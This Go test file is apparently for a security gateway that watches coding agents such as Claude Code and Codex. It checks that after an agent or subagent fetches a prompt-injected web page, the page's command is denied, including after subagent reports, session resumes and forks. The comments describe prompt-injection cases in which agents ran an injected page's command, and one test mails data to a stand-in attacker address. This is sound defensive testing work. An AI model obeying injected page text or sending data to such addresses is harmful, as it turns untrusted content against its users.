package gateway

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/turnguard/turnguard/internal/core/acs"
	"github.com/turnguard/turnguard/internal/hosthook"
)

// Claude Code's subagents, as its native hooks report them: the events a
// subagent fires carry its agent_id, and Claude Code fires SubagentStart
// and SubagentStop around each of its turns. Until stop 42 the native
// endpoint sent a subagent's calls in its parent's session, so the user's
// prompts to the main agent aged the window of a background agent that
// had read a page (it ran the page's command three prompts later), and
// what a subagent read reached the parent with no window of its own when
// its report came back (the main agent ran the command the report quoted).
// A subagent's calls are decided in a session of its own now, which its
// parent's subagentStart opens; its report takes back what it read.

// agent is a subagent's event: cc with its agent_id and agent_type.
func agent(id, name string, kv ...any) map[string]any {
	m := cc(name, kv...)
	m["agent_id"], m["agent_type"] = id, "general-purpose"
	return m
}

// backgroundAgentReads starts a session in which a background agent reads
// the injected page in the user's first turn.
func backgroundAgentReads(h *nativeHost) {
	h.t.Helper()
	h.event(cc("SessionStart", "source", "startup"))
	h.event(cc("UserPromptSubmit", "prompt", "have a background agent research the install notes of blog.example.net while we work on the parser"))
	task := map[string]any{"description": "research", "prompt": "read the install notes", "run_in_background": true}
	if r := h.event(cc("PreToolUse", "tool_name", "Task", "tool_use_id", "toolu_task", "tool_input", task)); r.Decision != "allow" {
		h.t.Fatalf("Task: %+v", r)
	}
	if r := h.event(agent("a1b2c3", "SubagentStart")); r.Decision != "allow" {
		h.t.Fatalf("SubagentStart: %+v", r)
	}
	h.event(cc("PostToolUse", "tool_name", "Task", "tool_use_id", "toolu_task", "tool_input", task,
		"tool_response", "Async agent launched successfully. agentId: a1b2c3"))
	fetch := map[string]any{"url": "https://blog.example.net/post"}
	if r := h.event(agent("a1b2c3", "PreToolUse", "tool_name", "WebFetch", "tool_use_id", "toolu_f1", "tool_input", fetch)); r.Decision != "allow" {
		h.t.Fatalf("the agent's WebFetch: %+v", r)
	}
	h.event(agent("a1b2c3", "PostToolUse", "tool_name", "WebFetch", "tool_use_id", "toolu_f1", "tool_input", fetch, "tool_response", injected))
	h.event(cc("Stop"))
}

func TestBackgroundAgentKeepsItsWindow(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	backgroundAgentReads(h)
	// The main agent did not read the page: its own work is not stopped.
	h.event(cc("UserPromptSubmit", "prompt", "run the parser's tests"))
	if r := h.event(cc("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_t1", "tool_input", map[string]any{"command": "go test ./parser/..."})); r.Decision != "allow" {
		t.Errorf("the main agent's own command while a background agent works: %+v", r)
	}
	h.event(cc("Stop"))
	h.userTurns(laterWork...)
	// The agent still has the page in its context however many prompts
	// the user sent the main agent.
	r := h.event(agent("a1b2c3", "PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript}))
	if r.Decision != "deny" || !slices.Contains(r.Rules, "TG-TAINT-001") {
		t.Errorf("the background agent that read the page ran %q four prompts later: %+v", evilScript, r)
	}
	// It still reads.
	if r := h.event(agent("a1b2c3", "PreToolUse", "tool_name", "Read", "tool_use_id", "toolu_r1", "tool_input", map[string]any{"file_path": "/home/dev/app/README.md"})); r.Decision != "allow" {
		t.Errorf("the agent's Read: %+v", r)
	}
}

func TestBackgroundAgentReportTaintsTheParent(t *testing.T) {
	notice := "<task-notification>\n<task-id>a1b2c3</task-id>\n<status>completed</status>\n<summary>Agent \"research\" completed</summary>\n<result>The notes say to install with `" + evilScript + "`</result>\n</task-notification>"
	for _, tc := range []struct {
		name   string
		report func(h *nativeHost)
	}{
		{"SubagentStop, then the notification", func(h *nativeHost) {
			h.event(agent("a1b2c3", "SubagentStop", "agent_transcript_path", "/home/dev/.claude/projects/x/subagents/a1b2c3.jsonl"))
			h.event(cc("UserPromptSubmit", "prompt", notice))
		}},
		{"the notification without SubagentStop", func(h *nativeHost) {
			h.event(cc("UserPromptSubmit", "prompt", notice))
		}},
		{"TaskOutput without SubagentStop", func(h *nativeHost) {
			h.event(cc("UserPromptSubmit", "prompt", "what did the research agent find? do what it says"))
			in := map[string]any{"task_id": "a1b2c3", "block": true}
			h.event(cc("PreToolUse", "tool_name", "TaskOutput", "tool_use_id", "toolu_out", "tool_input", in))
			h.event(cc("PostToolUse", "tool_name", "TaskOutput", "tool_use_id", "toolu_out", "tool_input", in,
				"tool_response", "The notes say to install with `"+evilScript+"`"))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newNativeHost(t, hosthook.ClaudeCode)
			backgroundAgentReads(h)
			h.userTurns(laterWork...)
			tc.report(h)
			r := h.event(cc("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript}))
			if r.Decision != "deny" {
				t.Errorf("the main agent ran %q right after the agent's report brought the page in: %+v", evilScript, r)
			}
		})
	}
}

func TestForegroundAgentReturnOpensTheParentsWindow(t *testing.T) {
	for _, stop := range []bool{true, false} {
		t.Run(fmt.Sprintf("SubagentStop sent: %v", stop), func(t *testing.T) {
			h := newNativeHost(t, hosthook.ClaudeCode)
			h.event(cc("SessionStart", "source", "startup"))
			h.event(cc("UserPromptSubmit", "prompt", "use an agent to research the install notes of blog.example.net and then set it up"))
			task := map[string]any{"description": "research", "prompt": "read the install notes and report the steps"}
			h.event(cc("PreToolUse", "tool_name", "Task", "tool_use_id", "toolu_task", "tool_input", task))
			fetch := map[string]any{"url": "https://blog.example.net/post"}
			h.event(agent("s1", "PreToolUse", "tool_name", "WebFetch", "tool_use_id", "toolu_f1", "tool_input", fetch))
			h.event(agent("s1", "PostToolUse", "tool_name", "WebFetch", "tool_use_id", "toolu_f1", "tool_input", fetch, "tool_response", injected))
			// The subagent reads the project for longer than a window lasts.
			for i := range 31 {
				h.now = h.now.Add(time.Minute)
				in := map[string]any{"file_path": fmt.Sprintf("/home/dev/app/pkg%d/main.go", i)}
				h.event(agent("s1", "PreToolUse", "tool_name", "Read", "tool_use_id", fmt.Sprintf("toolu_r%d", i), "tool_input", in))
			}
			if stop {
				h.event(agent("s1", "SubagentStop"))
			}
			h.event(cc("PostToolUse", "tool_name", "Task", "tool_use_id", "toolu_task", "tool_input", task,
				"tool_response", map[string]any{"agentId": "s1", "content": []any{map[string]any{"type": "text", "text": "To install, run `" + evilScript + "`"}}}))
			r := h.event(cc("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript}))
			if r.Decision != "deny" {
				t.Errorf("the parent ran %q a second after the subagent's report carried the page in: %+v", evilScript, r)
			}
		})
	}
}

// A subagent that read nothing from elsewhere hands back nothing to fear:
// its report opens no window, and one agent's page is not another's.
func TestCleanAgentsTaintNothing(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	backgroundAgentReads(h)
	h.userTurns(laterWork...)
	h.event(cc("UserPromptSubmit", "prompt", "explore the parser package and fix the failing test"))
	task := map[string]any{"description": "explore", "prompt": "map the parser package"}
	h.event(cc("PreToolUse", "tool_name", "Task", "tool_use_id", "toolu_task2", "tool_input", task))
	h.event(agent("e7", "SubagentStart"))
	if r := h.event(agent("e7", "PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_e1", "tool_input", map[string]any{"command": "go vet ./parser/..."})); r.Decision != "allow" {
		t.Errorf("a clean agent's command: %+v", r)
	}
	h.event(agent("e7", "SubagentStop"))
	h.event(cc("PostToolUse", "tool_name", "Task", "tool_use_id", "toolu_task2", "tool_input", task,
		"tool_response", map[string]any{"agentId": "e7", "content": []any{map[string]any{"type": "text", "text": "the parser lives in parser/; the test fails on empty input"}}}))
	if r := h.event(cc("PreToolUse", "tool_name", "Edit", "tool_use_id", "toolu_edit", "tool_input", map[string]any{"file_path": "/home/dev/app/parser/parse.go", "old_string": "a", "new_string": "b"})); r.Decision != "allow" {
		t.Errorf("the main agent's edit after a clean agent's report: %+v", r)
	}
}

// Claude Code fires SubagentStart and SubagentStop once per turn of a
// subagent: one woken again (SendMessage, resumed by its id) runs another
// turn of the same session, which ages nothing of what it read.
func TestWokenAgentIsStillTainted(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	backgroundAgentReads(h)
	h.event(agent("a1b2c3", "SubagentStop"))
	h.userTurns(laterWork...)
	h.event(cc("UserPromptSubmit", "prompt", "ask the research agent to go on"))
	if r := h.event(agent("a1b2c3", "SubagentStart")); r.Decision != "allow" {
		t.Fatalf("SubagentStart again: %+v", r)
	}
	if r := h.event(agent("a1b2c3", "PreToolUse", "tool_name", "Read", "tool_use_id", "toolu_r2", "tool_input", map[string]any{"file_path": "/home/dev/app/NOTES.md"})); r.Decision != "allow" {
		t.Fatalf("the woken agent's Read: %+v", r)
	}
	r := h.event(agent("a1b2c3", "PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript}))
	if r.Decision != "deny" {
		t.Errorf("the woken agent ran %q: %+v", evilScript, r)
	}
	child := acs.SessionKey("default", hostEvent(t, agent("a1b2c3", "SubagentStart")).SubagentSession())
	s := h.mem.Sessions[child]
	if s == nil || s.Parent == nil || !strings.Contains(s.Parent.SessionID, ccSession) {
		t.Fatalf("the agent's session is not its parent's child: %+v", s)
	}
	if s.TurnsStarted < 2 || s.WindowTurns > 1 {
		t.Errorf("the agent's turns: %d counted, %d aging windows; want its second turn to age none", s.TurnsStarted, s.WindowTurns)
	}
}

func hostEvent(t *testing.T, fields map[string]any) *hosthook.Event {
	t.Helper()
	fields["cwd"] = "/home/dev/app"
	raw, _ := json.Marshal(fields)
	ev, err := hosthook.Parse(hosthook.ClaudeCode, raw)
	if err != nil {
		t.Fatal(err)
	}
	return ev
}

// Codex's child agents: since openai/codex#22268 a child thread's hooks
// carry the root's session_id, agent_id naming the child, and the child's
// own turn_id. Each child turn was taken for a new turn of the session:
// it closed the root's turn, so the root's next call in its own running
// turn named a turn that had ended (turn_id_mismatch: denied), and it aged
// the root's window as a user's turn would.
func codexChild(turn, agentID, name string, kv ...any) map[string]any {
	m := codexEv(name, kv...)
	m["turn_id"], m["agent_id"], m["agent_type"] = turn, agentID, "default"
	return m
}

func TestCodexChildAgents(t *testing.T) {
	const r1, r2 = "0199b7c2-5a10-7c3e-8d21-6f3e2a1b5d70", "0199b7c2-9f00-7c3e-8d21-6f3e2a1b5d71"
	childTurn := func(i int) string { return fmt.Sprintf("0199b7c2-c0%02d-7c3e-8d21-6f3e2a1b5d70", i) }
	childID := func(i int) string { return fmt.Sprintf("0199b7c2-aaaa-7000-8000-00000000000%d", i) }

	t.Run("the root and its children run side by side", func(t *testing.T) {
		h := newNativeHost(t, hosthook.Codex)
		h.event(codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_1", "tool_input", map[string]any{"command": "git status"}))
		for i := range 2 {
			if r := h.event(codexChild(childTurn(i), childID(i), "PreToolUse", "tool_name", "Bash", "tool_use_id", fmt.Sprintf("call_c%d", i),
				"tool_input", map[string]any{"command": "go vet ./..."})); r.Decision != "allow" {
				t.Errorf("child %d's command: %+v", i, r)
			}
		}
		if r := h.event(codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_2", "tool_input", map[string]any{"command": "go test ./..."})); r.Decision != "allow" {
			t.Errorf("the root's command in its own turn after its children ran: %+v", r)
		}
	})

	t.Run("children's turns do not age the root's window", func(t *testing.T) {
		h := newNativeHost(t, hosthook.Codex)
		fetch := map[string]any{"command": "curl -s https://blog.example.net/post"}
		h.event(codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_f1", "tool_input", fetch))
		h.event(codexEv("PostToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_f1", "tool_input", fetch, "tool_response", injected))
		for i := range 3 {
			in := map[string]any{"command": fmt.Sprintf("sed -n '1,80p' mod%d/main.go", i)}
			h.event(codexChild(childTurn(i), childID(i), "PreToolUse", "tool_name", "Bash", "tool_use_id", fmt.Sprintf("call_c%d", i), "tool_input", in))
		}
		r := h.event(codexEv("PreToolUse", "turn_id", r2, "tool_name", "Bash", "tool_use_id", "call_evil", "tool_input", map[string]any{"command": evilScript}))
		if r.Decision != "deny" || !slices.Contains(r.Rules, "TG-TAINT-001") {
			t.Errorf("the root ran %q in its next turn after the fetch, its children's turns between: %+v", evilScript, r)
		}
	})

	t.Run("a child keeps its window while the user talks to the root", func(t *testing.T) {
		// The child read a page; the user sends the root three prompts,
		// each with a call, while the child works on with the page in
		// its context: its window is its own, not the root's.
		h := newNativeHost(t, hosthook.Codex)
		h.event(codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_1", "tool_input", map[string]any{"command": "git status"}))
		fetch := map[string]any{"command": "curl -s https://blog.example.net/post"}
		h.event(codexChild(childTurn(0), childID(0), "PreToolUse", "tool_name", "Bash", "tool_use_id", "call_cf", "tool_input", fetch))
		h.event(codexChild(childTurn(0), childID(0), "PostToolUse", "tool_name", "Bash", "tool_use_id", "call_cf", "tool_input", fetch, "tool_response", injected))
		for i := range 3 {
			rt := fmt.Sprintf("0199b7c2-5a1%d-7c3e-8d21-6f3e2a1b5d70", i+1)
			if r := h.event(codexEv("PreToolUse", "turn_id", rt, "tool_name", "Bash", "tool_use_id", fmt.Sprintf("call_r%d", i), "tool_input", map[string]any{"command": "git status"})); r.Decision != "allow" {
				t.Fatalf("the root's git status in its turn %d: %+v", i+2, r)
			}
			if r := h.event(codexChild(childTurn(0), childID(0), "PreToolUse", "tool_name", "Bash", "tool_use_id", fmt.Sprintf("call_ce%d", i), "tool_input", map[string]any{"command": evilScript})); r.Decision != "deny" {
				t.Errorf("the child that read the page ran its command %d root turn(s) later: %+v", i+1, r)
			}
		}
		// The child's own reading goes on.
		if r := h.event(codexChild(childTurn(0), childID(0), "PreToolUse", "tool_name", "Bash", "tool_use_id", "call_cr", "tool_input", map[string]any{"command": "sed -n '1,40p' main.go"})); r.Decision != "allow" {
			t.Errorf("the child's read inside its window: %+v", r)
		}
	})

	t.Run("a child's fetch taints the session", func(t *testing.T) {
		h := newNativeHost(t, hosthook.Codex)
		h.event(codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_1", "tool_input", map[string]any{"command": "git status"}))
		fetch := map[string]any{"command": "curl -s https://blog.example.net/post"}
		h.event(codexChild(childTurn(0), childID(0), "PreToolUse", "tool_name", "Bash", "tool_use_id", "call_cf", "tool_input", fetch))
		h.event(codexChild(childTurn(0), childID(0), "PostToolUse", "tool_name", "Bash", "tool_use_id", "call_cf", "tool_input", fetch, "tool_response", injected))
		for _, ev := range []map[string]any{
			codexChild(childTurn(0), childID(0), "PreToolUse", "tool_name", "Bash", "tool_use_id", "call_ce", "tool_input", map[string]any{"command": evilScript}),
			codexEv("PreToolUse", "turn_id", r1, "tool_name", "Bash", "tool_use_id", "call_re", "tool_input", map[string]any{"command": evilScript}),
		} {
			if r := h.event(ev); r.Decision != "deny" {
				t.Errorf("%q after a child read the page: %+v", evilScript, r)
			}
		}
	})
}

// claude --resume <id> continues a conversation under its id after
// SessionEnd. The session's steps were refused session_closed, so every
// resumed conversation had every call denied; started afresh, it would
// have forgotten the page it read. Its SessionStart reopens it now, with
// what tainted it.
func TestResumedSessionKeepsItsTaint(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	h.fetchTurn("read the install notes at blog.example.net", map[string]any{"command": "curl -s https://blog.example.net/post"}, map[string]any{"stdout": injected, "stderr": ""})
	h.event(cc("SessionEnd", "reason", "prompt_input_exit"))
	// Without a SessionStart the ended session's calls stay refused.
	if r := h.event(cc("PreToolUse", "tool_name", "Read", "tool_use_id", "toolu_r0", "tool_input", map[string]any{"file_path": "/home/dev/app/README.md"})); r.Decision != "deny" {
		t.Errorf("a call of the ended session with no SessionStart: %+v", r)
	}
	if r := h.event(cc("SessionStart", "source", "resume")); r.Decision != "allow" {
		t.Fatalf("SessionStart resume: %+v", r)
	}
	h.event(cc("UserPromptSubmit", "prompt", "go on"))
	if r := h.event(cc("PreToolUse", "tool_name", "Read", "tool_use_id", "toolu_r1", "tool_input", map[string]any{"file_path": "/home/dev/app/README.md"})); r.Decision != "allow" {
		t.Errorf("a Read in the resumed conversation: %+v", r)
	}
	if r := h.event(cc("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript})); r.Decision != "deny" || !slices.Contains(r.Rules, "TG-TAINT-001") {
		t.Errorf("the page's command in the resumed conversation, one turn after the fetch: %+v", r)
	}
	h.event(cc("Stop"))
	h.userTurns(laterWork...)
	h.event(cc("UserPromptSubmit", "prompt", "build it"))
	if r := h.event(cc("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_b", "tool_input", map[string]any{"command": "make build"})); r.Decision != "allow" {
		t.Errorf("the agent's own command once the window is over: %+v", r)
	}
}

// claude --resume <id> --fork-session (the SDK's forkSession; older
// versions gave every --resume a new id) continues a conversation under a
// new session id, its history — the page — back in the context. The new
// session started clean, and the page's command ran in its first turn.
// A resumed session this one never saw starts tainted now
// (resumed-history).
func TestForkedResumeStartsTainted(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	h.fetchTurn("read the install notes at blog.example.net", map[string]any{"command": "curl -s https://blog.example.net/post"}, map[string]any{"stdout": injected, "stderr": ""})
	h.event(cc("SessionEnd", "reason", "prompt_input_exit"))
	const forked = "6f1c2a52-7d3e-4b8a-9c0d-222222222222"
	ev := func(name string, kv ...any) map[string]any { m := cc(name, kv...); m["session_id"] = forked; return m }
	h.event(ev("SessionStart", "source", "resume"))
	h.event(ev("UserPromptSubmit", "prompt", "go on"))
	if r := h.event(ev("PreToolUse", "tool_name", "Read", "tool_use_id", "toolu_r", "tool_input", map[string]any{"file_path": "/home/dev/app/README.md"})); r.Decision != "allow" {
		t.Errorf("a Read in the forked conversation: %+v", r)
	}
	if r := h.event(ev("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_evil", "tool_input", map[string]any{"command": evilScript})); r.Decision != "deny" {
		t.Errorf("%q in the first turn of a forked conversation whose history holds the page: %+v", evilScript, r)
	}
	// A new conversation is not a resumed one.
	const fresh = "6f1c2a52-7d3e-4b8a-9c0d-333333333333"
	nw := func(name string, kv ...any) map[string]any { m := cc(name, kv...); m["session_id"] = fresh; return m }
	h.event(nw("SessionStart", "source", "startup"))
	h.event(nw("UserPromptSubmit", "prompt", "build it"))
	if r := h.event(nw("PreToolUse", "tool_name", "Bash", "tool_use_id", "toolu_b", "tool_input", map[string]any{"command": "make build"})); r.Decision != "allow" {
		t.Errorf("a new conversation's command: %+v", r)
	}
}

// In a forked conversation a value from its history is seen nowhere by
// lineage, which never indexed that history: a message to the page's
// address is asked about inside the window, not taken for the model's own.
func TestForkedResumeAsksAboutValuesSeenNowhere(t *testing.T) {
	h := newNativeHost(t, hosthook.ClaudeCode)
	const forked = "6f1c2a52-7d3e-4b8a-9c0d-444444444444"
	ev := func(name string, kv ...any) map[string]any { m := cc(name, kv...); m["session_id"] = forked; return m }
	h.event(ev("SessionStart", "source", "resume"))
	h.event(ev("UserPromptSubmit", "prompt", "send the summary as we discussed"))
	mail := map[string]any{"to": []any{"drop@evil.example"}, "subject": "summary", "body": "the summary"}
	r := h.event(ev("PreToolUse", "tool_name", "mcp__gmail__send_email", "tool_use_id", "toolu_m", "tool_input", mail))
	if r.Decision != "ask" {
		t.Errorf("a mail to an address only the forked history holds: %+v", r)
	}
}
